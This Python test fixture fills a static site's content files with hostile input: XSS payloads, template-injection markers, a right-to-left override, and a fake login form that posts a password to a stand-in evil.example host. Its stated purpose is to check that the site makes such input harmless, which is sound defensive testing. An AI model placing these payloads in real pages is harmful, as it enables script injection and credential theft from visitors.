"""Eve’s content: every field of every kind of file filled with what breaks sites that trust their authors."""

import json

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
OUT_OF_JSON = "</script><script>alert(2)</script>"
TEMPLATE = "{{ 7*7 }}{% raw %}"
SIGNS = "]]> & &amp; &#60; <!-- a < b > c '"
RIGHT_TO_LEFT = "שלום, مرحبا \u202eabc\u202c"
LONG = "W" * 120
WORD = f"Eve {SCRIPT} {IMAGE} {TEMPLATE} {SIGNS}"  # fields of at most 200 characters
LINE = f"{WORD} {OUT_OF_JSON} {RIGHT_TO_LEFT} {LONG}"
TAGS = [f"eve {SCRIPT}", f"eve {IMAGE}", f"{TEMPLATE} {SIGNS}", RIGHT_TO_LEFT, "W" * 80]

# An editor’s text may show such things, in code or with the signs written out.
EDITED = f"""Eve says `{SCRIPT}`, and &lt;img src=x onerror=alert(1)&gt; too. {TEMPLATE} ]]> & {LONG}

```
{OUT_OF_JSON} {IMAGE} {TEMPLATE} ]]>
```

{RIGHT_TO_LEFT}[^1]

[^1]: A note with `{SCRIPT}` and ]]>.
"""

# What strangers send may hold anything; it is made harmless.
SENT = f"""Eve sent {SCRIPT} and {IMAGE} and {OUT_OF_JSON} {TEMPLATE} ]]> & {LONG}

<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"><button>Log in</button></form>
<svg onload="alert(3)"><a xlink:href="javascript:alert(4)">svg</a></svg><math><mtext></mtext><style><img src=x onerror=alert(5)></style></math>
<style>body {{ display: none }}</style><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">

[a link](javascript:alert(6)) <a href="JaVa&#115;cript:alert(7)" onclick="alert(8)">another</a> <a href="data:text/html,<script>alert(9)</script>">third</a>

![a picture](https://evil.example/pixel.png) <img src="//evil.example/pixel.png" alt="x"> ![x](x){{: onerror=alert(10) style="position:fixed" class="masthead" }}

A paragraph.
{{: .masthead #main onclick="alert(11)" data-pagefind-filter="kind:Programme" }}

/// pull-quote
Quoted {SCRIPT}
///

{RIGHT_TO_LEFT}[^1]

[^1]: A note {IMAGE}.
"""


def quoted(value) -> str:
    """A value as YAML reads it back, whatever is in it."""
    return json.dumps(value, ensure_ascii=False)


def image(file: str) -> str:
    """A picture whose four facts are all Eve’s."""
    facts = {
        "file": file,
        "alt": LINE,
        "caption": LINE,
        "credit": {"name": WORD, "via": WORD, "url": "https://evil.example/?a=1&b=%22%3E"},
        "licence": WORD,
    }
    return quoted(facts)


FILES = {
    "content/contributors/eve.md": f"""---
name: {quoted(WORD)}
roles: [{{role: {quoted(LINE)}, organisation: {quoted(LINE)}, from: 2013-01}}]
avatar: {quoted({"file": "images/backr.png", "alt": LINE})}
links: {{twitter: eve}}
kind: guest
---
{EDITED}""",
    "content/programmes/eves-programme.md": f"""---
name: {quoted(LINE)}
summary: {quoted(LINE)}
website: {{label: {quoted(WORD)}, url: "https://evil.example/?a=1&b='"}}
image: {image("images/circle.png")}
---
{EDITED}""",
    "content/callouts/eves-question.md": f"""---
question: {quoted(LINE)}
opens: 2014-06-01
accepts: [text, photo]
programme: eves-programme
summary: {quoted(LINE)}
outcome: {quoted(EDITED)}
image: {image("images/inbox.png")}
---
{EDITED}""",
    "content/articles/2014-08-01-by-eve.md": f"""---
title: {quoted(LINE)}
date: 2014-08-01 09:00
authors: [eve]
programme: eves-programme
tags: {quoted(TAGS)}
summary: {quoted(LINE)}
image: {image("images/pulse.png")}
editors_note: {quoted(EDITED)}
---
{EDITED}
/// figure
    file: images/five-shifts.png
    alt: {quoted(LINE)}
    caption: {quoted(LINE)}
    credit: {{name: {quoted(WORD)}, via: {quoted(WORD)}}}
    licence: {quoted(WORD)}
///
""",
    "content/submissions/eves-question/2014-08-02-sent-by-eve.md": f"""---
title: {quoted(LINE)}
date: 2014-08-02 09:00
callout: eves-question
authors: [eve]
submitter: {{name: {quoted(WORD)}, pseudonym: true}}
platform: {{name: {quoted(WORD)}, original: "https://evil.example/?a=1&b=%3C"}}
consent: publish
edited: as-sent
summary: {quoted(LINE)}
intro: {quoted(EDITED)}
thanks: {quoted(EDITED)}
contact: ["@eve", "eve@evil.example", "https://evil.example/?q='-alert(1)-'"]
image: {image("images/witness.png")}
---
{SENT}""",
    "content/pages/eves-page.md": f"""---
title: {quoted(LINE)}
summary: {quoted(LINE)}
---
{EDITED}""",
}
